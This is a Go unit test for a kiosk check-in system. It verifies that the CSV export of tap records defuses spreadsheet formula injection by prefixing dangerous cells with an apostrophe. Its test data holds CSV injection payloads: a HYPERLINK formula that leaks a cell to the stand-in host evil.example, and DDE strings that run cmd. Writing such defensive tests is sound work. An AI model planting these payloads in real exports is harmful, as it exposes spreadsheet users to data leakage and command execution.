package kiosk_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"checkin/kiosk"
)

type tapList []kiosk.TapRecord

func (l tapList) Taps(_ context.Context, _ string, fn func(kiosk.TapRecord) error) error {
	for _, t := range l {
		if err := fn(t); err != nil {
			return err
		}
	}
	return nil
}

// TestCheckinsCSVNeutralisesFormulas: a cell a spreadsheet would run as a
// formula (=, +, -, @, tab, carriage return first) is prefixed with ', in
// every text column alike; other cells are left as they are.
func TestCheckinsCSVNeutralisesFormulas(t *testing.T) {
	at := time.Date(2026, 11, 22, 9, 0, 0, 0, time.UTC)
	hostile := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+9)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
	}
	var taps tapList
	for _, h := range hostile {
		taps = append(taps, kiosk.TapRecord{ID: h, At: at, DelegateID: h, DelegateName: h, UID: h, Source: h,
			Gate: h, Direction: h, Result: h, Reason: h, Kiosk: h})
	}
	taps = append(taps, kiosk.TapRecord{ID: "t1", At: at, DelegateID: "D1", DelegateName: "Jürgen Müller = chair",
		UID: "0A0B0C0D0E", Source: "rfid", Gate: "main", Direction: "in", Result: "accepted", Kiosk: "north-1", FirstToday: true})
	var buf bytes.Buffer
	if err := kiosk.WriteCheckinsCSV(context.Background(), &buf, taps, "", time.UTC); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(buf.String(), kiosk.BOM) {
		t.Errorf("tap log does not start with a BOM")
	}
	rows, err := csv.NewReader(kiosk.StripBOM(&buf)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(hostile)+2 {
		t.Fatalf("got %d rows, want %d", len(rows), len(hostile)+2)
	}
	for i, h := range hostile {
		row := rows[i+1]
		for col, cell := range row {
			name := kiosk.CheckinsHeader[col]
			if name == "at" || name == "first_today" {
				continue
			}
			if cell != "'"+h {
				t.Errorf("row %d %s = %q, want %q", i+1, name, cell, "'"+h)
			}
		}
	}
	want := []string{"t1", "2026-11-22T09:00:00Z", "D1", "Jürgen Müller = chair", "0A0B0C0D0E", "rfid", "main", "in", "accepted", "", "north-1", "true"}
	if got := rows[len(rows)-1]; fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("plain row = %q, want %q", got, want)
	}
}
